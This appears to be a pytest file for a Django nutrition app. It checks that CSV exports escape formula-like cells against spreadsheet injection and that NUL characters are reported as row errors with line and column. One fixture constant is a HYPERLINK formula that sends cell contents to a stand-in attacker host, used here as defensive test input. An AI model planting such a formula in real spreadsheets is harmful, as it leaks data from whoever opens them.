"""CSV files in and out: formula-like text is written as text, a NUL character is a row error."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from config.spreadsheet import escape_cell, unescape_cell
from nutrition.curation import csvfile
from nutrition.models import Food, Portion
from tests.nutrition.test_curation_import import CSV, _apply, _export, _upload, _zip
from tests.nutrition.test_import_fdc import BANANA, download  # noqa: F401 - a fixture

IMPORT = "admin:nutrition_food_import"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click")'


def _snapshot() -> tuple:
    return (
        list(Food.objects.order_by("pk").values()),
        list(Portion.objects.order_by("pk").values()),
        Food.history.count(),
    )


def _rows(text: str) -> dict[str, dict[str, str]]:
    return {row["source_id"]: row for row in csv.DictReader(io.StringIO(text))}


# -- formulas -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=1", "''+x", "'plain", "plain", "", "a=b"],
)
def test_escaping_a_cell_reads_back_exactly(text):
    written = escape_cell(text)

    assert unescape_cell(written) == text
    if text[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert written == "'" + text


def test_escaping_leaves_numbers_alone():
    assert escape_cell(-3.5) == -3.5
    assert escape_cell(-2) == -2
    assert escape_cell(None) is None


def test_the_food_export_writes_formula_like_text_as_text(curator_client, food):
    food(HYPERLINK, source="curated", source_id="+C-1", portions=[("@SUM(1)", 10), ("1 cup", 30)])
    food("-minus first", source="curated", source_id="C-2")

    rows = _rows(_export(curator_client))

    assert rows["'+C-1"]["name"] == "'" + HYPERLINK
    assert rows["'+C-1"]["portions"] == "'@SUM(1):10|1 cup:30"
    assert rows["C-2"]["name"] == "'-minus first"


def test_the_food_export_writes_negative_numbers_as_numbers(curator_client, food):
    # Not a value the checks let in, but a number column is never escaped.
    food("Odd", source="curated", source_id="C-3", sodium_mg=-1, potassium_mg=-0.5)

    row = _rows(_export(curator_client))["C-3"]

    assert (row["sodium_mg"], row["potassium_mg"]) == ("-1", "-0.5")


def test_an_export_with_formula_like_names_imports_back_unchanged(curator_client, food):
    names = [HYPERLINK, "+plus", "-minus", "@at", "'=already quoted", "'apostrophe"]
    for number, name in enumerate(names):
        food(name, source="curated", source_id=f"C-{number}", potassium_mg=100)
    food("Portions", source="curated", source_id="=C-9", portions=[("=cup", 30), ("-1 tbsp", 8)])
    exported = _export(curator_client)
    before = _snapshot()

    preview = _upload(curator_client, exported)
    page = preview.content.decode()

    assert "<strong>0</strong> new, <strong>0</strong> changed" in page
    assert f"<strong>{len(names) + 1}</strong> unchanged" in page
    _apply(curator_client, preview)
    assert _snapshot() == before


def test_the_plan_export_uses_the_shared_rule():
    from planner.reports import exports

    assert not hasattr(exports, "_FORMULA_START")
    assert exports._cell("\tTab") == "'\tTab"
    assert exports._cell(-1.5) == -1.5


# -- NUL characters -----------------------------------------------------------------------


def test_a_nul_in_a_csv_cell_is_a_row_error_with_line_and_column(curator_client, food_group):
    food_group("09")
    food_group("11")
    bad = CSV.replace("Kale chips", "Kale\x00chips")
    before = _snapshot()

    response = _upload(curator_client, bad)

    page = response.content.decode()
    assert response.status_code == 200
    assert "Apply this import" not in page
    assert "<strong>1</strong> rejected" in page
    assert re.search(r"<td>foods.csv</td><td>4</td><td>name</td><td>contains a NUL character", page)
    # Posting the apply anyway, for the staged file, changes nothing either.
    staged = curator_client.session["curation_import"]["digest"]
    response = curator_client.post(
        reverse(IMPORT), {"apply": "1", "digest": staged, "fingerprint": "[[0]]"}
    )
    assert response.status_code in (200, 302)
    assert _snapshot() == before


def test_a_nul_in_any_csv_column_is_named(db):
    text = CSV.replace("1 bag:28", "1 bag\x00:28").replace("C-7", "C-\x007")

    parsed = csvfile.parse_csv(text.encode(), "foods.csv")

    assert [(e.line, e.column) for e in parsed.errors] == [(4, "source_id"), (4, "portions")]
    assert [food.name for food in parsed.foods] == ["Bananas, raw", "Mystery greens"]


def test_import_fdc_rejects_a_nul_with_file_line_and_column(db, download):  # noqa: F811
    download.row("food.csv", fdc_id=BANANA)["description"] = "Bananas,\x00 raw"
    download.row("food_portion.csv", id=2)["modifier"] = "medium\x00"
    before = _snapshot()

    with pytest.raises(CommandError) as raised:
        call_command("import_fdc", str(download.write()), stdout=io.StringIO())

    message = str(raised.value)
    assert "food.csv, line 2, column description: contains a NUL character" in message
    assert "food_portion.csv, line 3, column modifier: contains a NUL character" in message
    assert _snapshot() == before


def test_an_fdc_zip_with_a_nul_is_rejected_in_the_preview(curator_client, download):  # noqa: F811
    download.row("food.csv", fdc_id=BANANA)["description"] = "Bananas,\x00 raw"
    before = _snapshot()

    response = _upload(curator_client, _zip(download.write()), "fdc.zip", "fdc")

    page = response.content.decode()
    assert response.status_code == 200
    assert "<td>food.csv</td><td>2</td><td>description</td><td>contains a NUL" in page
    assert "Apply this import" not in page
    staged = curator_client.session["curation_import"]["digest"]
    response = curator_client.post(reverse(IMPORT), {"apply": "1", "digest": staged})
    assert response.status_code == 200
    assert _snapshot() == before
